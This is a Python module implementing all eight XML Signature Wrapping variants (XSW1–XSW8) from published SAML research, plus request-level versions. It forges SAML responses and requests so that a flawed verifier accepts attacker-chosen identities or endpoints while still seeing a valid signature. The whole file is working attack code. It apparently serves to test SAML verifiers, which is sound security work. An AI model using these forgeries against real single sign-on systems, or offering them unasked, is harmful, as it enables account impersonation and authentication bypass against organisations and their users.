"""The eight XML Signature Wrapping variants of Somorovsky et al., "On Breaking SAML: Be Whoever
You Want to Be" (USENIX Security 2012), built from a genuinely signed document.

``evil`` changes the content an attacker wants processed (a NameID, an ACS URL …); the variants
differ in where the signed original is hidden so that a careless verifier still finds a valid
signature while the application reads the evil copy:

* XSW1/XSW2 (the message's own signature): an evil message with a new ID carries the original
  signature, and the unsigned original is put into that signature (1) or before it (2);
* XSW3–XSW8 (the assertion's signature): an evil assertion with a new ID before the original (3);
  the original moved into an evil assertion (4); the original modified in place under its
  signature (new ID) and an untouched copy with the old ID appended to the response (5) or put
  into the signature (6); an evil copy with the *same* ID inside ``samlp:Extensions`` before the
  original (7); the original modified in place (same ID) with an untouched copy inside a
  ``ds:Object`` of its signature (8).

For requests (signed at the root, no assertion) :func:`request_variants` gives the root-level
counterparts of XSW1, XSW2, XSW5, XSW7 and XSW8.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
EVIL_ID = "_evil0123456789abcdef0123456789abcdef01"
Evil = Callable[[etree._Element], None]


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(f"{{{DS}}}Signature")
    assert found is not None, "the element is not signed"
    return found


def _unsigned(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    clone.remove(_signature(clone))
    return clone


def _assertion(response: etree._Element) -> etree._Element:
    found = response.find(f"{{{SAML}}}Assertion")
    assert found is not None, "no (plain) assertion in the response"
    return found


def _extensions(message: etree._Element) -> etree._Element:
    """A samlp:Extensions where the schema allows it: after Issuer and Signature."""
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    anchor = message.find(f"{{{DS}}}Signature")
    if anchor is None:
        anchor = message.find(f"{{{SAML}}}Issuer")
    assert anchor is not None
    anchor.addnext(extensions)
    return extensions


# --- message level (XSW1, XSW2) ----------------------------------------------------------------


def xsw1(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    original = _unsigned(root)
    evil(root)
    root.set("ID", EVIL_ID)
    _signature(root).append(original)
    return root


def xsw2(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    original = _unsigned(root)
    evil(root)
    root.set("ID", EVIL_ID)
    _signature(root).addprevious(original)
    return root


# --- assertion level (XSW3 … XSW8) -------------------------------------------------------------


def xsw3(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    assertion = _assertion(root)
    forged = _unsigned(assertion)
    evil(forged)
    forged.set("ID", EVIL_ID)
    assertion.addprevious(forged)
    return root


def xsw4(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    assertion = _assertion(root)
    forged = _unsigned(assertion)
    evil(forged)
    forged.set("ID", EVIL_ID)
    root.append(forged)
    forged.append(assertion)  # moves the original into the evil one
    return root


def xsw5(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    assertion = _assertion(root)
    original = _unsigned(assertion)
    evil(assertion)
    assertion.set("ID", EVIL_ID)
    root.append(original)
    return root


def xsw6(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    assertion = _assertion(root)
    original = _unsigned(assertion)
    evil(assertion)
    assertion.set("ID", EVIL_ID)
    _signature(assertion).append(original)
    return root


def xsw7(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    forged = _unsigned(_assertion(root))
    evil(forged)  # same ID as the original
    _extensions(root).append(forged)
    return root


def xsw8(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    assertion = _assertion(root)
    original = _unsigned(assertion)
    evil(assertion)  # same ID, the signature stays
    obj = etree.SubElement(_signature(assertion), f"{{{DS}}}Object")
    obj.append(original)
    return root


RESPONSE_LEVEL = {"XSW1": xsw1, "XSW2": xsw2}
ASSERTION_LEVEL = {
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}


# --- requests: the root is the signed element ------------------------------------------------


def _request_xsw5(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    original = _unsigned(root)
    evil(root)
    root.set("ID", EVIL_ID)
    root.append(original)
    return root


def _request_xsw7(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    original = copy.deepcopy(root)
    evil(root)
    root.remove(_signature(root))
    _extensions(root).append(original)  # the signed original, same ID, inside Extensions
    return root


def _request_xsw8(signed: etree._Element, evil: Evil) -> etree._Element:
    root = copy.deepcopy(signed)
    original = _unsigned(root)
    evil(root)  # same ID, the signature stays
    etree.SubElement(_signature(root), f"{{{DS}}}Object").append(original)
    return root


def request_variants() -> dict[str, Callable[[etree._Element, Evil], etree._Element]]:
    return {
        "XSW1": xsw1,
        "XSW2": xsw2,
        "XSW5": _request_xsw5,
        "XSW7": _request_xsw7,
        "XSW8": _request_xsw8,
    }
